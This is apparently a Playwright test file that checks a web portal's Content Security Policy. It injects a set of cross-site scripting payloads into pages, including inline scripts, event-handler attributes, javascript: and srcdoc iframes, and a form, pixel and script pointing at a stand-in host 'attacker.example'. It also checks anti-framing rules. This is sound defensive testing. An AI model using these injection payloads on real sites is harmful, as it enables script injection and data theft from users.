import { gotoInjected, portalPaths } from "../../support/public-pages.ts";
import { portalRoutes } from "../../../src/shared/domain/routes.ts";
import { expect, test } from "../../support/portal.ts";

declare global {
  interface Window {
    attacked?: string[];
  }
}

const attack = (name: string) => `(window.attacked ??= []).push('${name}')`;
/** An attacker's attempts: a script in the page, from elsewhere, from here, in an attribute, in an address. */
const markup = `
  <script>${attack("inline")}</script>
  <script src="https://attacker.example/outside.js"></script>
  <script src="/_astro/own.js"></script>
  <img src="data:image/png;base64,x" onerror="${attack("attribute")}">
  <svg onload="${attack("svg")}"></svg>
  <iframe srcdoc="<script>parent.${attack("frame")}</script>"></iframe>
  <iframe src="javascript:parent.${attack("address")}"></iframe>
  <img id="outside" src="https://attacker.example/pixel.png">
  <form action="https://attacker.example/collect"><button id="send">Send</button></form>
  <base href="https://attacker.example/">`;

/** One page of each policy: tests/site/headers.test.ts compares the policies of all pages. */
const paths = ["/", "/boroughs/camden", "/no-such-page", portalRoutes.portal, portalRoutes.forgotPassword];

test("injected code neither runs nor reaches another origin on a page of any policy", async ({
  page,
  baseURL,
}) => {
  const reached: string[] = [];
  await page.route("https://attacker.example/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: attack("outside") });
  });
  for (const path of paths) {
    // The site's own scripts run only in the portal.
    const own = portalPaths.includes(path) ? "" : attack("own");
    await page.route("**/_astro/own.js", (route) =>
      route.fulfill({ contentType: "text/javascript", body: own }),
    );
    await gotoInjected(page, path, markup);
    await page.waitForLoadState("load");
    await expect(page.locator("#send")).toBeAttached();
    expect(await page.evaluate(() => window.attacked), path).toBeUndefined();
    // Pages without a rule of their own get the general rule for forms and base.
    await page.locator("#send").evaluate((button: HTMLButtonElement) => button.click());
    expect(await page.evaluate(() => document.baseURI), path).toMatch(new RegExp(`^${baseURL}`));
    expect(reached, path).toEqual([]);
    expect(page.url(), path).toMatch(new RegExp(`^${baseURL}`));
  }
});

test("an injected script runs where no policy forbids it (the control of these tests)", async ({ page }) => {
  await page.route("**/contact", async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers(), "content-security-policy": "" };
    await route.fulfill({
      status: 200,
      headers,
      body: (await response.text()).replace("</main>", `${markup}</main>`),
    });
  });
  await page.goto("/contact");
  await expect.poll(() => page.evaluate(() => window.attacked ?? [])).toContain("inline");
  expect(await page.evaluate(() => window.attacked)).toContain("attribute");
});

test("no page can be framed, neither by another site nor by this one", async ({ page, baseURL }) => {
  const body = paths.map((path) => `<iframe name="${path}" src="${baseURL}${path}"></iframe>`).join("");
  for (const outer of ["http://framer.example/", `${baseURL}/frames`]) {
    await page.route(outer, (route) => route.fulfill({ contentType: "text/html", body }));
    await page.goto(outer);
    for (const path of paths) {
      await expect.poll(() => page.frame(path)?.url(), `${path} in ${outer}`).toMatch(/^chrome-error:/);
    }
  }
});
